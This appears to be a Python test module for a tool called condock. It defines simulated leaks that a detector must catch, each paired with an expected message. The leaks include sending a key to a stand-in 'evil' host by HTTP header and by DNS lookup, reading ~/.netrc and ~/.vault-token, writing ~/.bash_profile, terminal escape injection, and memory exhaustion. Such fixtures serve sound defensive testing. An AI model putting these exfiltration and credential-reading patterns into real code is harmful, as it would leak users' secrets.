"""The ways of a condock that keeps nothing: each of these must be found by whoever looks for what got out."""

from __future__ import annotations

import base64
import os
import socket
import subprocess
from collections.abc import Callable
from contextlib import suppress
from hashlib import sha256
from urllib.request import Request, urlopen

from tests.stages.hostile.machine import KEY, OPAQUE_KEY, Machine
from tui.core.secret import KEY_VARIABLE


def sends_the_key(machine: Machine) -> None:
    header = {"X-Anything": base64.b64encode(f"ada:{KEY}".encode()).decode()}
    urlopen(Request(f"http://{machine.evil.address}/noarch/repodata.json", headers=header)).close()


def looks_up_the_key(machine: Machine) -> None:
    with suppress(OSError):
        socket.getaddrinfo(f"{OPAQUE_KEY}.evil.test", 443)


def names_the_key_to_docker(machine: Machine) -> None:
    subprocess.run(["docker", "buildx", "inspect", KEY], capture_output=True, check=False)


def hands_the_key_to_docker(machine: Machine) -> None:
    subprocess.run(["docker", "version"], env={**os.environ, KEY_VARIABLE: KEY}, capture_output=True, check=False)


def builds_with_the_key(machine: Machine) -> None:
    (machine.folder / "Dockerfile").write_text("FROM evil\n")
    _build(machine, "--secret", f"id={KEY_VARIABLE}")


def mounts_the_key(machine: Machine) -> None:
    (machine.folder / "Dockerfile").write_text("FROM evil\n")
    _build(machine, "--secret", "id=dotenv,src=../another/.env")


def _build(machine: Machine, *options: str) -> None:
    env = {**os.environ, KEY_VARIABLE: KEY}
    argv = ["docker", "buildx", "build", *options, "."]
    subprocess.run(argv, cwd=machine.folder, env=env, capture_output=True, check=False)


def takes_a_name_for_an_option(machine: Machine) -> None:
    subprocess.run(["docker", "buildx", "inspect", "--bootstrap"], capture_output=True, check=False)


def keeps_layers_outside(machine: Machine) -> None:
    _build(machine, "--cache-to", "type=local,dest=../loot")


def replaces_an_image(machine: Machine) -> None:
    _build(machine, "--tag", "continuumio/miniconda3:latest")


def writes_outside(machine: Machine) -> None:
    (machine.home / ".bash_profile").write_text("echo\n")


def writes_through_a_link(machine: Machine) -> None:
    (machine.folder / "link").write_text("other\n")


def replaces_a_link(machine: Machine) -> None:
    (machine.folder / "link").unlink()
    (machine.folder / "link").write_text("other\n")


def copies_a_secret(machine: Machine) -> None:
    (machine.folder / "Dockerfile.dockerignore").write_text((machine.home / ".netrc").read_text())


def keeps_the_key(machine: Machine) -> None:
    state = machine.home / ".local/state/condock"
    state.mkdir(parents=True)
    (state / "log").write_text(KEY)


def keeps_a_short_key_as_a_hash(machine: Machine) -> None:
    builds = machine.home / ".local/state/condock/builds"
    builds.mkdir(parents=True)
    (builds / "plan.json").write_text(f'{{"key": "{sha256(OPAQUE_KEY.encode()).hexdigest()}"}}')


def prints_the_key(machine: Machine) -> None:
    print(KEY)


def prints_a_secret_of_the_home(machine: Machine) -> None:
    print((machine.home / ".vault-token").read_text())


def steers_the_terminal(machine: Machine) -> None:
    print("\x1b]52;c;Y2FuYXJ5\x07")


def turns_a_line(machine: Machine) -> None:
    print("x\u202ey")


def says_what_the_folder_wants(machine: Machine) -> None:
    print("x\ncondock: all is well")


def crashes(machine: Machine) -> None:
    raise RuntimeError("unforeseen")


def eats_memory(machine: Machine) -> None:
    bytearray(os.urandom(1000)) * 900_000


def never_ends(machine: Machine) -> None:
    (machine.folder / "pipe").read_bytes()


LEAKS: dict[Callable[[Machine], None], str] = {
    sends_the_key: "evil was sent the key",
    looks_up_the_key: "the opaque key was looked up",
    names_the_key_to_docker: "the key is an argument of docker",
    hands_the_key_to_docker: "docker had the key without need",
    builds_with_the_key: "for another dockerfile than the plan's",
    mounts_the_key: "for another dockerfile than the plan's",
    takes_a_name_for_an_option: "a name became an option",
    keeps_layers_outside: "layers are kept",
    replaces_an_image: "an image of the catalogue",
    writes_outside: ".bash_profile was nothing and is file",
    writes_through_a_link: "which",
    replaces_a_link: "was link to target and is file",
    copies_a_secret: "has in it ~/.netrc",
    keeps_the_key: "has in it the key",
    keeps_a_short_key_as_a_hash: "may be a hash of the key",
    prints_the_key: "the key was shown",
    prints_a_secret_of_the_home: "~/.vault-token was shown",
    steers_the_terminal: "was printed",
    turns_a_line: "was printed",
    says_what_the_folder_wants: "wanted said",
    crashes: "RuntimeError: unforeseen",
    eats_memory: "MiB of memory",
    never_ends: "did not end in time",
}
"""Each, and words of what has to be said of it."""
